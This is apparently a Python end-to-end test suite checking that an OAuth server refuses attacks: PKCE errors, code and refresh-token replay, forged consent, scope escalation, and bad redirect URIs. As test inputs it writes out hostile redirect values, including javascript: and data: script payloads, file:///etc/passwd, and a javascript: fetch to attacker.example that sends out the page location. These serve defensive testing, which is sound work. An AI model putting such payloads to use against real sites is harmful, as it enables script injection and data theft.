"""OAuth's refusals: each attack on the flow meets the specification's error, and nothing is issued.

A real agentws on loopback; the client side is raw HTTP (httpx2), so each
request can be wrong in exactly one way. Consent goes through the real
dashboard page, signed in, with its CSRF token.
"""

from __future__ import annotations

from datetime import timedelta
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import attrs
from cryptography.fernet import Fernet

from agentws.domain.models import (
    Capability,
    ClientKind,
    McpToken,
    OAuthClient,
    OAuthGrant,
    OAuthRefreshToken,
)
from agentws.domain.rules import hash_secret, utcnow
from tests.e2e.mcp_support import running
from tests.e2e.oauth_support import (
    REDIRECT,
    admin_browser,
    authorize_url,
    code_form,
    exchange,
    mcp_status,
    pkce_pair,
    refresh,
    register_client,
    tokens_for,
)


async def test_a_wrong_or_missing_code_verifier_gets_no_token(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        verifier, challenge = pkce_pair()
        sent = await browser.authorize(authorize_url(server, client["client_id"], challenge))
        other_verifier, _ = pkce_pair()
        wrong = await exchange(browser.http, client["client_id"], sent["code"], other_verifier)
        assert wrong.status_code == 400
        assert wrong.json()["error"] == "invalid_grant"
        missing = await exchange(browser.http, client["client_id"], sent["code"], None)
        assert missing.status_code == 400
        assert missing.json()["error"] == "invalid_request"
        # The code was not spent by the failed attempts: the right verifier still works.
        right = await exchange(browser.http, client["client_id"], sent["code"], verifier)
        assert right.status_code == 200, right.text


async def test_plain_pkce_is_refused(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        verifier, _ = pkce_pair()
        url = authorize_url(server, client["client_id"], verifier, code_challenge_method="plain")
        answer = await browser.http.get(url)
        assert answer.status_code == 302
        sent = parse_qs(urlsplit(answer.headers["location"]).query)
        assert answer.headers["location"].startswith(REDIRECT)
        assert sent["error"] == ["invalid_request"]
        assert sent["state"] == ["st-1"]


async def test_a_redirect_uri_not_registered_is_never_redirected_to(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        _, challenge = pkce_pair()
        url = authorize_url(
            server, client["client_id"], challenge, redirect_uri="https://attacker.example/cb"
        )
        answer = await browser.http.get(url)
        assert answer.status_code == 400
        assert answer.json()["error"] == "invalid_request"
        assert "location" not in answer.headers


async def test_a_loopback_redirect_uri_may_name_any_port(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        _, challenge = pkce_pair()
        url = authorize_url(
            server,
            client["client_id"],
            challenge,
            redirect_uri=REDIRECT.replace("53682", "61000"),
        )
        answer = await browser.http.get(url)
        assert answer.status_code == 302
        assert "/dashboard/oauth/consent/" in answer.headers["location"]
        other_path = authorize_url(
            server,
            client["client_id"],
            challenge,
            redirect_uri=REDIRECT.replace("/callback", "/elsewhere"),
        )
        assert (await browser.http.get(other_path)).status_code == 400


async def test_a_code_used_twice_revokes_what_it_gave(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        verifier, challenge = pkce_pair()
        sent = await browser.authorize(authorize_url(server, client["client_id"], challenge))
        first = await exchange(browser.http, client["client_id"], sent["code"], verifier)
        assert first.status_code == 200
        tokens = first.json()
        assert await mcp_status(server, tokens["access_token"]) == 200

        replay = await exchange(browser.http, client["client_id"], sent["code"], verifier)
        assert replay.status_code == 400
        assert replay.json()["error"] == "invalid_grant"
        assert await mcp_status(server, tokens["access_token"]) == 401
        again = await refresh(browser.http, client["client_id"], tokens["refresh_token"])
        assert again.status_code == 400 and again.json()["error"] == "invalid_grant"


async def test_refresh_rotates_and_reuse_revokes_the_family(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client_id, first = await tokens_for(browser)
        rotated = await refresh(browser.http, client_id, first["refresh_token"])
        assert rotated.status_code == 200, rotated.text
        second = rotated.json()
        assert second["refresh_token"] != first["refresh_token"]
        assert second["scope"] == "read write"
        assert await mcp_status(server, second["access_token"]) == 200

        # The spent refresh token comes back: somebody copied it. The whole family goes.
        stolen = await refresh(browser.http, client_id, first["refresh_token"])
        assert stolen.status_code == 400 and stolen.json()["error"] == "invalid_grant"
        assert await mcp_status(server, second["access_token"]) == 401
        later = await refresh(browser.http, client_id, second["refresh_token"])
        assert later.status_code == 400


async def test_an_expired_access_token_is_refused_and_refresh_brings_a_new_one(
    tmp_path: Path,
) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client_id, tokens = await tokens_for(browser)
        stored = await server.store.find(McpToken, token_hash=hash_secret(tokens["access_token"]))
        assert stored is not None
        await server.store.update(attrs.evolve(stored, expires_at=utcnow() - timedelta(seconds=1)))
        assert await mcp_status(server, tokens["access_token"]) == 401
        fresh = await refresh(browser.http, client_id, tokens["refresh_token"])
        assert fresh.status_code == 200
        assert await mcp_status(server, fresh.json()["access_token"]) == 200


async def test_the_revocation_endpoint_ends_the_consent(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client_id, tokens = await tokens_for(browser)
        answer = await browser.http.post(
            "/oauth/revoke", data={"client_id": client_id, "token": tokens["refresh_token"]}
        )
        assert answer.status_code == 200
        assert await mcp_status(server, tokens["access_token"]) == 401
        assert (await refresh(browser.http, client_id, tokens["refresh_token"])).status_code == 400


async def test_a_consent_post_without_its_csrf_token_decides_nothing(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        _, challenge = pkce_pair()
        page = await browser.consent_page(authorize_url(server, client["client_id"], challenge))
        forged = await browser.http.post(
            str(page.url), data={"decision": "approve", "scope": "destructive"}
        )
        assert forged.status_code in (400, 403)
        assert "location" not in forged.headers
        still = await browser.http.get(str(page.url))
        assert 'value="approve"' in still.text  # still pending


async def test_a_denied_consent_sends_the_client_an_error(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        _, challenge = pkce_pair()
        page = await browser.consent_page(authorize_url(server, client["client_id"], challenge))
        denied = await browser.decide(page, "deny")
        assert denied.status_code == 303
        sent = parse_qs(urlsplit(denied.headers["location"]).query)
        assert denied.headers["location"].startswith(REDIRECT)
        assert sent["error"] == ["access_denied"]
        assert sent["state"] == ["st-1"]
        assert sent["iss"] == [f"{server.base_url}/oauth"]
        # And the request cannot be approved afterwards.
        late = await browser.decide(page, "approve")
        assert late.status_code == 400


async def test_the_administrator_grants_no_more_than_asked(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        verifier, challenge = pkce_pair()
        url = authorize_url(server, client["client_id"], challenge, scope="read")
        page = await browser.consent_page(url)
        assert 'value="destructive"' not in page.text
        answer = await browser.decide(page, scope="destructive")
        assert answer.status_code == 303
        code = parse_qs(urlsplit(answer.headers["location"]).query)["code"][0]
        tokens = (await exchange(browser.http, client["client_id"], code, verifier)).json()
        assert tokens["scope"] == "read"


async def test_expired_requests_and_refresh_tokens_are_forgotten(tmp_path: Path) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client_id, tokens = await tokens_for(browser)
        long_ago = utcnow() - timedelta(days=2)
        for grant in await server.store.select(OAuthGrant):
            await server.store.update(attrs.evolve(grant, expires_at=long_ago))
        for token in await server.store.select(OAuthRefreshToken):
            await server.store.update(attrs.evolve(token, expires_at=long_ago))
        _, challenge = pkce_pair()
        answer = await browser.http.get(authorize_url(server, client_id, challenge))
        assert answer.status_code == 302
        [pending] = await server.store.select(OAuthGrant)
        assert pending.status.value == "pending"
        assert await server.store.select(OAuthRefreshToken) == []
        assert (await refresh(browser.http, client_id, tokens["refresh_token"])).status_code == 400


async def test_registration_stops_at_the_client_limit(tmp_path: Path) -> None:
    async with (
        running(tmp_path, AGENTWS_OAUTH_MAX_CLIENTS="1") as server,
        admin_browser(server) as browser,
    ):
        await register_client(browser.http)
        refused = await browser.http.post(
            "/oauth/register",
            json={"redirect_uris": [REDIRECT], "token_endpoint_auth_method": "none"},
        )
        assert refused.status_code == 400
        assert refused.json()["error"] == "invalid_client_metadata"


async def test_a_registered_secret_is_kept_sealed_and_still_checked(tmp_path: Path) -> None:
    key = Fernet.generate_key().decode()
    async with (
        running(tmp_path, AGENTWS_SECRET_KEY=key) as server,
        admin_browser(server) as browser,
    ):
        client = await register_client(
            browser.http, token_endpoint_auth_method="client_secret_post"
        )
        secret = client["client_secret"]
        assert secret
        [stored] = await server.store.select(OAuthClient)
        assert stored.sealed_secret is not None
        assert secret not in stored.sealed_secret and secret not in str(stored.metadata)
        verifier, challenge = pkce_pair()
        sent = await browser.authorize(authorize_url(server, client["client_id"], challenge))
        form = code_form(client["client_id"], sent["code"], verifier)
        assert (await browser.http.post("/oauth/token", data=form)).status_code == 401
        answer = await browser.http.post("/oauth/token", data={**form, "client_secret": secret})
        assert answer.status_code == 200, answer.text


async def test_a_code_or_refresh_token_for_another_endpoint_is_an_invalid_target(
    tmp_path: Path,
) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        verifier, challenge = pkce_pair()
        sent = await browser.authorize(authorize_url(server, client["client_id"], challenge))
        other = server.url.replace("/ops", "/sales")
        form = code_form(client["client_id"], sent["code"], verifier)
        elsewhere = await browser.http.post("/oauth/token", data={**form, "resource": other})
        assert elsewhere.status_code == 400
        assert elsewhere.json()["error"] == "invalid_target"
        # Nothing was spent: the code still works for the endpoint consented to.
        tokens = await browser.http.post("/oauth/token", data={**form, "resource": server.url})
        assert tokens.status_code == 200, tokens.text
        refreshed = await browser.http.post(
            "/oauth/token",
            data={
                "grant_type": "refresh_token",
                "client_id": client["client_id"],
                "refresh_token": tokens.json()["refresh_token"],
                "resource": other,
            },
        )
        assert refreshed.status_code == 400
        assert refreshed.json()["error"] == "invalid_target"
        assert await mcp_status(server, tokens.json()["access_token"]) == 200
        assert await mcp_status(server, tokens.json()["access_token"], other) == 401


async def test_redirect_uris_are_https_loopback_http_or_an_apps_own_scheme(
    tmp_path: Path,
) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        for bad in (
            "javascript:alert(document.domain)//",
            "data:text/html,<script>alert(1)</script>",
            "file:///etc/passwd",
            "myapp:/callback",  # a private-use scheme must be reverse-domain (RFC 8252 §7.1)
            "http://app.example/cb",
            "https://user:secret@app.example/cb",
            "http://user@127.0.0.1:5000/cb",
            "https://app.example/cb#fragment",
        ):
            answer = await browser.http.post(
                "/oauth/register",
                json={"redirect_uris": [REDIRECT, bad], "token_endpoint_auth_method": "none"},
            )
            assert answer.status_code == 400, (bad, answer.text)
            assert answer.json()["error"] == "invalid_redirect_uri", bad
            assert "redirect_uris[1]" in answer.json()["error_description"], answer.text
        for good in (
            "com.example.app:/oauth/callback",
            "https://app.example/cb",
            "http://[::1]:9/cb",
            "http://localhost/cb",
        ):
            await register_client(browser.http, [good])
        assert len(await server.store.select(OAuthClient)) == 4

        # A client stored before these rules never gets a browser sent to its script.
        sneaky = "javascript:fetch('//attacker.example/'+location)//"
        await server.store.insert(
            OAuthClient(
                client_id="old-client",
                kind=ClientKind.DYNAMIC,
                name="Old",
                metadata={"redirect_uris": [sneaky], "token_endpoint_auth_method": "none"},
            )
        )
        _, challenge = pkce_pair()
        for redirect in (sneaky, None):
            extra = {"redirect_uri": redirect} if redirect else {}
            url = authorize_url(server, "old-client", challenge, **extra)
            if redirect is None:
                url = url.replace("&redirect_uri=" + quote(REDIRECT, safe=""), "")
            answer = await browser.http.get(url)
            assert answer.status_code == 400, answer.headers
            assert "location" not in answer.headers
            assert answer.json()["error"] == "invalid_request"
        # Nor does a request left pending from before them.
        grant = OAuthGrant(
            client_id="old-client",
            group_id=(await server.store.group_by_slug("acme", "ops")).id,
            scope=Capability.READ,
            redirect_uri=sneaky,
            redirect_uri_explicit=True,
            code_challenge=challenge,
            resource=server.url,
            expires_at=utcnow() + timedelta(minutes=5),
        )
        await server.store.insert(grant)
        await browser.sign_in()
        page = await browser.http.get(f"/dashboard/oauth/consent/{grant.id}")
        assert "javascript" not in page.headers["content-security-policy"]
        decided = await browser.decide(page)
        assert decided.status_code == 400
        assert "location" not in decided.headers


async def test_authorize_tells_no_stranger_which_workspaces_and_groups_exist(
    tmp_path: Path,
) -> None:
    async with running(tmp_path) as server, admin_browser(server) as browser:
        client = await register_client(browser.http)
        _, challenge = pkce_pair()
        answers = {}
        for endpoint in ("acme/ops", "acme/nope", "nope/ops"):
            resource = f"{server.base_url}/mcp/g/{endpoint}"
            url = authorize_url(server, client["client_id"], challenge, resource=resource)
            answer = await browser.http.get(url)  # nobody signed in
            assert answer.status_code == 302, (endpoint, answer.text)
            answers[endpoint] = answer
        consent_pages = {e: a.headers["location"] for e, a in answers.items()}
        assert all("/dashboard/oauth/consent/ogr_" in c for c in consent_pages.values())
        assert len({tuple(sorted(a.headers.keys())) for a in answers.values()}) == 1
        assert len({len(a.content) for a in answers.values()}) == 1
        # The consent page itself needs an administrator, for every one of them.
        for page in consent_pages.values():
            unsigned = await browser.http.get(page)
            assert unsigned.status_code == 302
            assert "/dashboard/login" in unsigned.headers["location"]

        # Signed in, the administrator is told, and can only send the client back.
        await browser.sign_in()
        page = await browser.http.get(consent_pages["acme/nope"])
        assert page.status_code == 200
        assert "does not exist" in page.text and 'value="approve"' not in page.text
        sent_back = await browser.decide(page, "deny")
        assert sent_back.status_code == 303
        assert sent_back.headers["location"].startswith(REDIRECT)
        query = parse_qs(urlsplit(sent_back.headers["location"]).query)
        assert query["error"] == ["invalid_target"]
        assert query["state"] == ["st-1"]
        forced = await browser.http.get(consent_pages["nope/ops"])
        approved = await browser.decide(forced, "approve")
        assert approved.status_code == 303
        assert "code" not in parse_qs(urlsplit(approved.headers["location"]).query)
